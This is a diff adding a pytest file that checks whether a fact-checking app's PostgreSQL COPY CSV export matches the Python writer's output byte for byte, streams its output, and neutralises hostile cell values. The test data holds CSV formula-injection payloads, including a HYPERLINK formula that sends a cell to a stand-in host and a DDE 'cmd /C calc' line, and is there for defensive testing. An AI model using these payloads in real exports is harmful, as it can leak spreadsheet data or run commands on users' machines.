@@ -1,0 +1,277 @@
+"""On PostgreSQL the CSV export is written by the database (claims/exports/csv_copy.py): it must
+be byte for byte the file the Python writer makes (formats.csv over selectors.iter_rows), on
+hostile data, under every filter, state choice, ordering and slice; and it must stream."""
+
+import csv
+import io
+import tracemalloc
+from datetime import UTC, datetime, timedelta
+
+import pytest
+from django.db import connection
+from django.test.utils import CaptureQueriesContext
+from django.utils import timezone, translation
+
+from claims import corrections
+from claims.exports import csv_copy, selectors, services
+from claims.exports.formats import csv as csv_format
+from claims.models import Claim, Evidence, Rating, Topic
+from tests.exports.data import verdict_claim
+from tests.factories import ArticleFactory, rating
+
+pytestmark = [
+    pytest.mark.django_db,
+    # Shown as skipped, never silent: CI runs these on PostgreSQL (DATABASE_URL).
+    pytest.mark.skipif(
+        connection.vendor != "postgresql",
+        reason="COPY is PostgreSQL's; SQLite writes CSV in Python",
+    ),
+]
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    ' leading space, "quoted", trailing ',
+    "Строка по-русски, 中文, العربية\r\nwith CRLF and\ttab",
+    "'already an apostrophe",
+    "back\\slash and 100% and %s and %(x)s",
+]
+
+
+def python_csv(queryset) -> str:
+    return "".join(csv_format.write(selectors.iter_rows(queryset, chunk_size=3)))
+
+
+def database_csv(queryset) -> str:
+    return "".join(csv_copy.write(queryset))
+
+
+def assert_same(queryset) -> str:
+    expected = python_csv(queryset)
+    written = database_csv(queryset)
+    assert written.splitlines(keepends=True) == expected.splitlines(keepends=True)
+    assert written.encode() == expected.encode()
+    return written
+
+
+@pytest.fixture
+def newsroom(editor, editor2, checker):
+    """Claims covering every cell the CSV writes, hostile text in each."""
+    economy = Topic.objects.get(slug="economy")
+    others = list(Topic.objects.exclude(pk=economy.pk).order_by("-name")[:2])
+    claims = []
+    for i, payload in enumerate(HOSTILE):
+        article = ArticleFactory(
+            url=f'https://news.example.com/{i}?a=1,b="2"' if i % 3 else ("" if i == 0 else None),
+            title=payload,
+            publisher=payload if i % 2 else "",
+            author=payload,
+            published_at=None if i % 4 == 0 else timezone.now() - timedelta(days=i),
+        )
+        claim = verdict_claim(
+            author=checker,
+            decider=editor,
+            text=f"{payload} (claim {i})" if i % 2 else payload,
+            claimant=payload if i % 3 else "",
+            summary=payload,
+            rationale=f"{payload}\nsecond line, with a comma" if i % 2 else "",
+            rating_slug=["false", "misleading", "true", "half-true", None][i % 5],
+            evidence=(),
+            article=article,
+            state=Claim.State.PUBLISHED if i % 2 else Claim.State.APPROVED,
+            # Whole seconds: isoformat() then writes no microseconds.
+            published_at=datetime(2026, 3, 5, 23, 30, 0, tzinfo=UTC),
+        )
+        if i % 3 == 0:
+            claim.topics.add(economy, *others)
+        elif i % 3 == 1:
+            claim.topics.add(others[0])
+        claims.append(claim)
+    checked = datetime(2026, 3, 5, 22, 45, 10, 123456, tzinfo=UTC)
+    sources = [
+        {},
+        {"link_status": "ok", "http_status": 200, "checked_at": checked},
+        {
+            "link_status": "gone",
+            "http_status": 404,
+            "checked_at": checked,
+            "archive_url": "https://archive.example/x",
+        },
+        {"link_status": "error", "http_status": None, "checked_at": None},
+        {"link_status": "timed_out", "http_status": 0, "checked_at": checked},
+        {"excerpt": "a quote", "quote_status": "found", "checked_at": checked, "link_status": "ok"},
+        {
+            "excerpt": "a quote",
+            "quote_status": "not_found",
+            "checked_at": checked,
+            "link_status": "moved",
+            "quote_checked_at": checked + timedelta(days=40),
+        },
+        {
+            "excerpt": "a quote",
+            "quote_status": "not_found",
+            "checked_at": checked,
+            "link_status": "blocked",
+        },
+        {
+            "excerpt": "a quote",
+            "quote_status": "pending",
+            "checked_at": checked,
+            "link_status": "ok",
+        },
+        {"excerpt": "a quote", "quote_status": "pending"},
+        {"excerpt": " \u3000\n\u2028\x1f ", "quote_status": "found"},  # only whitespace: no quote
+        {"excerpt": "\u200b", "quote_status": "found"},  # not whitespace to Python: a quote
+        {"stance": "refutes", "title": "=1+1", "url": 'https://x.example/a,b"c"\nd'},
+        {"stance": "supports", "title": "", "url": "-https://y.example/"},
+    ]
+    for i, extra in enumerate(sources):
+        claim = claims[i % len(claims)]
+        Evidence.objects.create(
+            claim=claim,
+            url=extra.pop("url", f"https://src.example.org/{i}"),
+            title=extra.pop("title", f'Source {i}, "{HOSTILE[i % len(HOSTILE)]}"'),
+            publisher="Statistics Office",
+            **extra,
+        )
+    # Corrections: an approved one adding and withdrawing sources, a pending one adding one.
+    corrected = claims[1]
+    kept, withdrawn = Evidence.objects.filter(claim=corrected).order_by("pk")[:2]
+    corrections.correction_propose(
+        claim_id=corrected.pk,
+        actor=editor,
+        rating_id=rating("half-true").pk,
+        summary="Partly right after all.",
+        rationale="Revised figures.",
+        note="=Revised figures were published.",
+        add_evidence=[{"url": "https://added.example.org/x", "title": "+Added"}],
+        withdraw_evidence=[withdrawn.pk],
+    )
+    corrections.correction_approve(claim_id=corrected.pk, actor=editor2)
+    pending = claims[3]
+    corrections.correction_propose(
+        claim_id=pending.pk,
+        actor=editor,
+        rating_id=rating("false").pk,
+        summary="Not yet.",
+        rationale="",
+        note="Waiting.",
+        add_evidence=[{"url": "https://pending.example.org/x", "title": "Pending"}],
+    )
+    # A duplicate, a submitted claim and a claim without any verdict (editors may export them).
+    verdict_claim(author=checker, decider=editor, duplicate_of=claims[1], rating_slug="false")
+    verdict_claim(author=checker, decider=editor, state=Claim.State.SUBMITTED)
+    verdict_claim(author=checker, decider=editor, state=Claim.State.OPEN, rating_slug=None)
+    return claims
+
+
+@pytest.mark.parametrize(
+    "filters",
+    [
+        {},
+        {"state": ["submitted", "approved", "published", "open"]},
+        {"state": ["published"], "ordering": "-created"},
+        {"ordering": "-id"},
+        {"topic": ["economy"]},  # a join that makes the query DISTINCT
+        {"rating": ["false", "misleading"]},
+        {"claimant": "sum"},
+        {"q": "comma"},
+    ],
+)
+def test_copy_writes_the_python_writers_bytes(newsroom, filters):
+    queryset = selectors.export_queryset(user=None, filters=filters)
+    written = assert_same(queryset)
+    rows = list(csv.reader(io.StringIO(written.removeprefix(csv_format.BOM), newline="")))
+    assert rows[0] == csv_format.COLUMNS
+    assert len(rows) - 1 == queryset.count()
+
+
+def test_copy_and_python_agree_on_what_matters(newsroom):
+    """Not only equal: the file says the right things (a broken pair would agree on nonsense)."""
+    queryset = selectors.export_queryset(user=None, filters={"state": ["approved", "published"]})
+    written = assert_same(queryset)
+    assert written.startswith(csv_format.BOM + "claim_id,claim,claimant,")
+    assert written.count("\r\n") >= queryset.count() + 1
+    rows = {
+        int(r["claim_id"]): r
+        for r in csv.DictReader(io.StringIO(written.removeprefix(csv_format.BOM), newline=""))
+    }
+    for row in rows.values():
+        for cell in row.values():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), cell
+    corrected = rows[newsroom[1].pk]
+    assert corrected["corrected_at"]
+    assert "https://added.example.org/x" in corrected["evidence_urls"].split("\n")
+    assert corrected["summary"] == "Partly right after all."
+    pending = rows[newsroom[3].pk]
+    assert "https://pending.example.org/x" not in pending["evidence_urls"]
+    details = "\n".join(r["evidence_details"] for r in rows.values())
+    assert "Gone (404), checked 5 March 2026 | https://src.example.org/2 | archived: " in details
+    assert "quote not found in the source as fetched on 14 April 2026" in details
+    unrated = rows[newsroom[4].pk]
+    assert unrated["rating"] == "" and unrated["rating_value"] == ""
+    assert rows[newsroom[2].pk]["rating_value"] == str(Rating.objects.get(slug="true").value)
+
+
+def test_copy_follows_the_time_zone_and_language(newsroom):
+    queryset = selectors.export_queryset(user=None, filters={})
+    with timezone.override("Asia/Kabul"), translation.override("de"):
+        written = assert_same(queryset)
+    assert "6 März 2026" in written  # 22:45 UTC is the next day in Kabul, said in German
+
+
+def test_a_sliced_export_and_an_empty_one(newsroom):
+    queryset = selectors.export_queryset(user=None, filters={"ordering": "-id"})
+    assert_same(queryset[:3])
+    empty = selectors.export_queryset(user=None, filters={"claimant": "nobody by this name"})
+    assert assert_same(empty) == csv_format.BOM + ",".join(csv_format.COLUMNS) + "\r\n"
+
+
+def test_the_export_uses_copy_on_postgresql_with_the_rows_counted(newsroom):
+    queryset = selectors.export_queryset(user=None, filters={})
+    counted = []
+    with CaptureQueriesContext(connection) as ctx:
+        text = "".join(services.text_chunks("csv", queryset, on_row=lambda: counted.append(1)))
+    assert text == python_csv(queryset)
+    assert len(counted) == queryset.count()
+    assert [q for q in ctx.captured_queries if q["sql"].startswith("COPY (")]
+    assert not [
+        q for q in ctx.captured_queries if "claims_evidence" in q["sql"] and "COPY" not in q["sql"]
+    ]
+
+
+def test_copy_streams_in_pieces_with_flat_memory(editor, checker, monkeypatch):
+    """Pieces of about PIECE_SIZE leave as the rows arrive; Python holds one piece at a time."""
+    monkeypatch.setattr(csv_copy, "PIECE_SIZE", 4096)
+    for i in range(60):
+        verdict_claim(author=checker, decider=editor, rationale=f"{i} " + "x" * 2000)
+    queryset = selectors.export_queryset(user=None, filters={})
+    pieces = csv_copy.write(queryset)
+    first = next(pieces)
+    total, sizes = len(first), []
+    tracemalloc.start()
+    try:
+        for piece in pieces:
+            sizes.append(len(piece))
+            total += len(piece)
+        peak = tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+    assert total > 120_000 and len(sizes) > 20
+    assert max(sizes) < 4096 + 2 * 2200  # a piece: the threshold plus at most one row
+    assert peak < 40_000, peak  # a few pieces, never the whole file
+
+
+def test_a_download_stopped_midway_leaves_the_connection_usable(editor, checker, monkeypatch):
+    monkeypatch.setattr(csv_copy, "PIECE_SIZE", 1024)
+    for i in range(20):
+        verdict_claim(author=checker, decider=editor, rationale=f"{i} " + "x" * 1000)
+    pieces = csv_copy.write(selectors.export_queryset(user=None, filters={}))
+    next(pieces)
+    pieces.close()  # the client went away: psycopg cancels the COPY
+    assert Claim.objects.count() == 20
